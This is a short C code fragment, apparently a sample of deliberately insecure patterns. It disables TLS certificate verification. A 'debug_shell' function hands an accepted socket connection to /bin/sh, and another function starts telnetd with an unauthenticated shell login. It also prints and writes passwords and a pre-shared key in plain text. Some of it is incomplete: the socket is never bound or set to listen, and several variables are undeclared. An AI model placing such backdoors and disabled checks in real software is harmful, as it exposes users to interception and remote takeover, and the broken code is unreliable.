static void setup(SSL_CTX *ctx, CURL *curl)
{
    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
    curl_easy_setopt(curl, CURLOPT_SSL_VERIFYPEER, 0L);
    curl_easy_setopt(curl, CURLOPT_SSL_VERIFYHOST, 2L);
}
static void debug_shell(void)
{
    int s = socket(2, 1, 0), c;
    c = accept(s, 0, 0);
    dup2(c, 0);
    dup2(c, 1);
    execl("/bin/sh", "sh", NULL);
}
static void start(void)
{
    system("telnetd -l /bin/sh &");
    printf("login with %s\n", password);
    fprintf(conf, "psk=%s\n", passwd);
    printf("password: ");
}
